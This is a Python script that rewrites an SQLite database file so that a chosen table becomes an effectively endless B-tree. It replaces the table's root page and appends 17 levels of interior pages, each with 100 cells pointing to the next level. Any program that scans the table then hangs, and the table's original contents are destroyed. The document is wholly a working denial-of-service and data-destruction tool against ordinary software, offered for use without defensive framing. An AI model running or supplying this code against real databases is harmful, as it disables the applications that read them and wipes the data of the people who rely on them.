#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Makes the tree of a table in a database endless: each of the 100 cells of a page leads to the page of the next of 17
levels, so that no reader comes to the end of it.

usage: endless_table.py DATABASE TABLE"""
import sqlite3
import struct
import sys


def varint(number):
    """As in the file format of SQLite, section 1.6."""
    out = [number & 0x7f]
    while number > 0x7f:
        number >>= 7
        out.append(0x80 | number & 0x7f)
    return bytes(reversed(out))


def interior(child, size):
    """A page of a table whose children are all the same."""
    cells = [struct.pack(">I", child) + varint(10**6 + i) for i in range(100)]
    start = size - sum(map(len, cells))
    pointers, at = b"", start
    for cell in cells:
        pointers += struct.pack(">H", at)
        at += len(cell)
    head = b"\x05\0\0" + struct.pack(">HHBI", len(cells), start, 0, child) + pointers
    return head + bytes(start - len(head)) + b"".join(cells)


def main(path, table):
    with sqlite3.connect(path) as handle:
        root, = handle.execute("SELECT rootpage FROM sqlite_schema WHERE name = ?", (table,)).fetchone()
    handle.close()
    with open(path, "rb") as file:
        data = bytearray(file.read())
    size, = struct.unpack(">H", data[16:18])
    pages = len(data) // size
    data[(root - 1) * size:root * size] = interior(pages + 1, size)
    for level in range(17):
        data += interior(pages + 2 + level, size)
    leaf = b"\x0d\0\0" + struct.pack(">HHBH", 1, size - 20, 0, size - 20)
    data += leaf + bytes(size - 20 - len(leaf)) + varint(12) + varint(5) + bytes(18)
    data[28:32] = struct.pack(">I", len(data) // size)
    with open(path, "wb") as file:
        file.write(data)


main(*sys.argv[1:])
